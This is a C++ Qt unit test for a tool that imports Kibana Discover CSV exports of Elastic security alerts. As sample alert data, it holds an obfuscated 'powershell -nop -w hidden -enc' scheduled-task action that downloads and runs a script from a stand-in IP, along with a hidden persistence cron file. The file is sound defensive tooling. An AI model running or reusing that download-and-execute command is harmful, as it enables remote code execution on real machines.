#include "ingest/ElasticAlertReader.h"
#include "ingest/FormatRegistry.h"
#include "ingest/KibanaDiscoverCsvReader.h"
#include "ingest/NormalizedEvent.h"

#include <QBuffer>
#include <QFile>
#include <QTest>

using namespace tb;

namespace {

struct ReadResult {
    QList<NormalizedEvent> events;
    QList<ImportIssue> issues;
};

// The sample's Kibana ran in Europe/Berlin (+01:00 in March); its dates carry no offset.
ReadResult readDevice(QIODevice *device, const QByteArray &zone = "Europe/Berlin") {
    KibanaDiscoverCsvReader reader(device,
                                   {QStringLiteral("discover.csv"), TimeNormalizer(QTimeZone(zone)), {}});
    ReadResult result;
    NormalizedEvent event;
    ImportIssue issue;
    for (;;) {
        const auto status = reader.next(event, issue);
        if (status == EventReader::Status::End || status == EventReader::Status::Failed)
            break;
        if (status == EventReader::Status::Event)
            result.events << event;
        else
            result.issues << issue;
    }
    return result;
}

QString sample() {
    return QStringLiteral(TEST_DATA_DIR "/formats/elastic/kibana_discover_alerts_export.csv");
}

ReadResult readSample() {
    QFile file(sample());
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return readDevice(&file);
}

ReadResult readBytes(QByteArray bytes) {
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::ReadOnly);
    return readDevice(&buffer);
}

} // namespace

class TestKibanaDiscoverCsvReader : public QObject {
    Q_OBJECT

private slots:
    void detects_data() {
        QTest::addColumn<QByteArray>("head");
        QTest::addColumn<QString>("format");
        QFile file(sample());
        QVERIFY(file.open(QIODevice::ReadOnly));
        QTest::newRow("sample with BOM") << file.read(64 * 1024) << "elastic.discover.csv";
        QTest::newRow("no BOM") << QByteArray("\"@timestamp\",\"kibana.alert.rule.name\",\"host.name\"\n")
                                << "elastic.discover.csv";
        QTest::newRow("escaped header")
            << QByteArray("\"'@timestamp\",\"kibana.alert.severity\"\n") << "elastic.discover.csv";
        QTest::newRow("_source only")
            << QByteArray("\"_source\"\n\"{\"\"kibana.alert.rule.name\"\":\"\"x\"\"}\"\n")
            << "elastic.discover.csv";
        QTest::newRow("Splunk notable stays Splunk")
            << QByteArray("_time,rule_name,urgency,status_label,event_id\n") << "splunk.notable.csv";
    }
    void detects() {
        QFETCH(QByteArray, head);
        QFETCH(QString, format);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head));
        QVERIFY(detected);
        QCOMPARE(detected->id, format);
    }

    void sampleNormalizes_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("time in assumed zone") << 0 << "time_utc"
                                              << "2025-03-04T09:46:21.733000Z";
        QTest::newRow("original") << 0 << "time_original"
                                  << "Mar 4, 2025 @ 10:46:21.733";
        QTest::newRow("confidence") << 0 << "time_confidence"
                                    << "assumed_tz";
        QTest::newRow("alert time") << 0 << "alert_time_utc"
                                    << "2025-03-04T09:46:21.733000Z";
        QTest::newRow("rule") << 0 << "rule_name"
                              << "A scheduled task was created";
        QTest::newRow("severity") << 0 << "severity"
                                  << "low";
        QTest::newRow("risk") << 0 << "risk_score"
                              << "21";
        QTest::newRow("open") << 0 << "status"
                              << "new";
        QTest::newRow("host") << 0 << "host"
                              << "wks-fin-023";
        QTest::newRow("user") << 0 << "user"
                              << "jdoe";
        QTest::newRow("task name") << 0 << "task_name"
                                   << "\\WindowsDefenderUpdate";
        QTest::newRow("action from message") << 0 << "task_action"
                                             << "powershell.exe -nop -w hidden -enc "
                                                "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
                                                "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
                                                "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC"
                                                "4AMQAxADMALgA1ADAALwBhAC4AcABzADEAJwAp"
                                                "AA==";
        QTest::newRow("run as from message") << 0 << "task_run_as"
                                             << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("operation from message") << 0 << "task_operation"
                                                << "created";
        QTest::newRow("rule source") << 0 << "rule_source"
                                     << "elastic";
        QTest::newRow("FP tags") << 1 << "disposition_raw"
                                 << "False Positive; Vendor updater";
        QTest::newRow("closed") << 1 << "status"
                                << "closed";
        QTest::newRow("zoom action") << 1 << "task_action"
                                     << "\"C:\\Program Files\\Zoom\\bin\\ZoomUpdater.exe\" /silent";
        QTest::newRow("acknowledged") << 2 << "status"
                                      << "in_progress";
        QTest::newRow("hidden from message") << 2 << "task_hidden"
                                             << "1";
        QTest::newRow("schtasks") << 4 << "process_name"
                                  << "schtasks.exe";
        QTest::newRow("schtasks parent") << 4 << "parent_name"
                                         << "invoice_viewer.exe";
        QTest::newRow("schtasks task") << 4 << "task_name"
                                       << "\\WindowsDefenderUpdate";
        QTest::newRow("cron path") << 5 << "target_path"
                                   << "/etc/cron.d/.sys-update";
        QTest::newRow("cron task") << 5 << "task_name"
                                   << "/etc/cron.d/.sys-update";
        QTest::newRow("cron platform") << 5 << "platform"
                                       << "linux";
        QTest::newRow("admin run as") << 7 << "task_run_as"
                                      << "CORP\\svc_backup";
    }
    void sampleNormalizes() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = readSample();
        QCOMPARE(result.events.size(), 8);
        QCOMPARE(result.issues.size(), 0);
        const auto field = eventFieldByColumn(column);
        QVERIFY(field.has_value());
        QCOMPARE(result.events[record].value(*field), expected);
    }

    void rawKeepsCells() {
        const ReadResult result = readSample();
        QVERIFY(result.events[1].raw.startsWith(
            QLatin1String("{\"@timestamp\":\"Mar 4, 2025 @ 11:06:24.105\",")));
        QVERIFY(result.events[1].raw.contains(QLatin1String(
            "\"kibana.alert.workflow_tags\":\"[\\\"False Positive\\\",\\\"Vendor updater\\\"]\"")));
        QVERIFY(result.events[0].identity.isEmpty()); // no id column: the importer hashes the row
    }

    // The same alert in NDJSON and in the Discover CSV.
    void agreesWithAlertDocuments() {
        QFile file(QStringLiteral(TEST_DATA_DIR "/formats/elastic/alerts-security.alerts-default.ndjson"));
        QVERIFY(file.open(QIODevice::ReadOnly));
        ElasticAlertReader reader(&file, {QStringLiteral("a.ndjson"), TimeNormalizer(), {}});
        NormalizedEvent alert;
        ImportIssue issue;
        QCOMPARE(reader.next(alert, issue), EventReader::Status::Event);
        const NormalizedEvent row = readSample().events[0];
        for (EventField field : {EventField::AlertTimeUtc, EventField::RuleName, EventField::Severity,
                                 EventField::TaskName, EventField::TaskAction, EventField::TaskRunAs,
                                 EventField::TaskTrigger, EventField::Host, EventField::User})
            QCOMPARE(row.value(field), alert.value(field));
    }

    void unescapesFormulas_data() {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("expected");
        QTest::newRow("equals") << "'=HYPERLINK(1)"
                                << "=HYPERLINK(1)";
        QTest::newRow("minus") << "'-nop -enc AAAA"
                               << "-nop -enc AAAA";
        QTest::newRow("plus") << "'+1"
                              << "+1";
        QTest::newRow("at") << "'@timestamp"
                            << "@timestamp";
        QTest::newRow("only one quote") << "''=x"
                                        << "''=x";
        QTest::newRow("plain quote") << "'quoted'"
                                     << "'quoted'";
        QTest::newRow("lone quote") << "'"
                                    << "'";
    }
    void unescapesFormulas() {
        QFETCH(QString, cell);
        QFETCH(QString, expected);
        QCOMPARE(KibanaDiscoverCsvReader::unescapeFormula(cell), expected);
    }

    void variants_data() {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("escaped command line")
            << QByteArray("\"@timestamp\",\"kibana.alert.rule.name\",\"process.command_line\"\n"
                          "\"Mar 4, 2025 @ 10:46:21.733\",\"r\",\"'-enc AAAA\"\n")
            << "command_line"
            << "-enc AAAA";
        QTest::newRow("_source document")
            << QByteArray("\"_source\"\n\"{\"\"@timestamp\"\":\"\"2025-03-04T09:46:21.733Z\"\",\"\"kibana."
                          "alert.rule."
                          "name\"\":\"\"R\"\",\"\"kibana.alert.uuid\"\":\"\"u1\"\",\"\"host\"\":{"
                          "\"\"name\"\":\"\"wks-1\"\"}}\"\n")
            << "host"
            << "wks-1";
        QTest::newRow("object cell")
            << QByteArray(
                   "\"@timestamp\",\"kibana.alert.rule.name\",\"user\"\n"
                   "\"Mar 4, 2025 @ "
                   "10:46:21.733\",\"r\",\"{\"\"name\"\":\"\"mlee\"\",\"\"domain\"\":\"\"CORP\"\"}\"\n")
            << "user_domain"
            << "CORP";
        QTest::newRow("ISO dates kept exact")
            << QByteArray("\"@timestamp\",\"kibana.alert.original_time\",\"kibana.alert.rule.name\"\n"
                          "\"Mar 4, 2025 @ 10:46:21.733\",\"2025-03-04T09:41:17.402Z\",\"r\"\n")
            << "time_confidence"
            << "exact";
        QTest::newRow("mitre columns")
            << QByteArray(
                   "\"@timestamp\",\"kibana.alert.rule.name\",\"kibana.alert.rule.threat.technique.id\","
                   "\"kibana.alert.rule.threat.technique.subtechnique.id\"\n"
                   "\"Mar 4, 2025 @ 10:46:21.733\",\"r\",\"[\"\"T1053\"\"]\",\"[\"\"T1053.005\"\"]\"\n")
            << "mitre"
            << "[\"T1053\",\"T1053.005\"]";
    }
    void variants() {
        QFETCH(QByteArray, csv);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = readBytes(csv);
        QCOMPARE(result.issues.size(), 0);
        QCOMPARE(result.events.size(), 1);
        const auto field = eventFieldByColumn(column);
        QVERIFY(field.has_value());
        QCOMPARE(result.events[0].value(*field), expected);
    }

    void badRows_data() {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QString>("expected");
        QTest::newRow("custom date format")
            << QByteArray("\"@timestamp\",\"kibana.alert.rule.name\"\n\"4th of March\",\"r\"\n")
            << "discover.csv:record 0 (line 2): @timestamp: \"4th of March\" is not a time this reader "
               "understands";
        QTest::newRow("ragged") << QByteArray(
                                       "\"@timestamp\",\"kibana.alert.rule.name\"\n\"a\",\"b\",\"c\"\n")
                                << "discover.csv:record 0 (line 2): the row has 3 cells but the header has 2";
    }
    void badRows() {
        QFETCH(QByteArray, csv);
        QFETCH(QString, expected);
        const ReadResult result = readBytes(csv);
        QCOMPARE(result.events.size(), 0);
        QCOMPARE(result.issues.size(), 1);
        QCOMPARE(result.issues[0].toString(), expected);
    }
};

QTEST_GUILESS_MAIN(TestKibanaDiscoverCsvReader)
#include "tst_kibanadiscovercsvreader.moc"
